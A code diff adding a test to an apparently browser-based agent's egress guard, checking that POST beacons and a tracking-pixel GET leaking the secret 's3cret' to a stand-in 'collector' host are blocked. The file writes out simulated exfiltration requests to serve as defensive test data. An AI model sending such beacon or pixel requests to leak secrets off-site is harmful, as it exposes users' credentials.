@@ -517,3 +517,28 @@ def test_logs_name_hosts_never_paths_queries_or_bodies(loop: Loop, browser_host:
     logs = "\n".join(logging.Formatter().format(r) for r in caplog.records)
     assert "169.254.169.254:80" in logs  # it does log, by host:port
     assert secret not in logs
+
+
+def test_under_the_network_lock_bodies_and_secret_urls_to_other_sites_are_refused_and_counted(loop: Loop) -> None:
+    # The lock (set by the login's network guard once a secret is typed) is enforced here too, for the
+    # requests Chromium's routes can miss: a beacon from an unloading page reaches the guard regardless.
+    async def scenario() -> None:
+        site = await RawSite().start()
+        listener = await EgressGuard(DEVELOPMENT).open()
+        listener.allow = lambda host: host == "bank.localhost"
+        listener.leaks = lambda url: "s3cret" in url
+        try:
+            base = f"http://collector.localhost:{site.port}"
+            post = await ask(listener.port, f"POST {base}/beacon HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi".encode())
+            leak = await ask(listener.port, f"GET {base}/pixel?d=s3cret HTTP/1.1\r\n\r\n".encode())
+            assert post.startswith(b"HTTP/1.1 403 ") and leak.startswith(b"HTTP/1.1 403 ")
+            assert listener.blocked == ["collector.localhost", "collector.localhost"]
+            assert site.connections == 0
+            # A plain GET carrying nothing still goes (the lock is about bodies and secrets).
+            image = await ask(listener.port, f"GET {base}/logo.png HTTP/1.1\r\n\r\n".encode())
+            assert not image.startswith(b"HTTP/1.1 403 ") and site.connections == 1
+        finally:
+            await listener.close()
+            await site.stop()
+
+    loop.run(scenario())
